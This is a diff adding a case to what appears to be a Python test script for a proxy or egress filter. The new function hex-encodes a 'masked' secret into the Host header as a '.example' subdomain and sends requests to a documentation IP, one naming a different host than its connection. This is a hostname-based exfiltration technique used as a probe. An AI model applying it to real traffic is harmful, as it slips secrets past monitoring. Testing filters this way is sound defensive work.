@@ -79,6 +79,19 @@ for kind, value in NOTES.items():
     if kind != "harmless":
         each_way(kind, value)
 
+
+
+def named():
+    """As the name of a host: of a request, and of one that names another than its connection."""
+    host = NOTES["masked"].encode().hex() + ".example"
+    seen = b""
+    for target in ("/", f"http://{OPEN}/"):
+        with dial("192.0.2.1", 80) as sock:
+            seen += talk(sock, request(target, host=host, auth=False))
+    return seen
+
+
+TRICKS["named"] = named
 send("harmless", headers=[f"X-Any: {NOTES['harmless']}"], body=NOTES["harmless"].encode())
 send("placeholder", headers=[f"X-Any: {TOKEN}"], body=TOKEN.encode())
 send("own", method="GET", headers=[f"Authorization: Bearer {TOKEN}"], host=API)
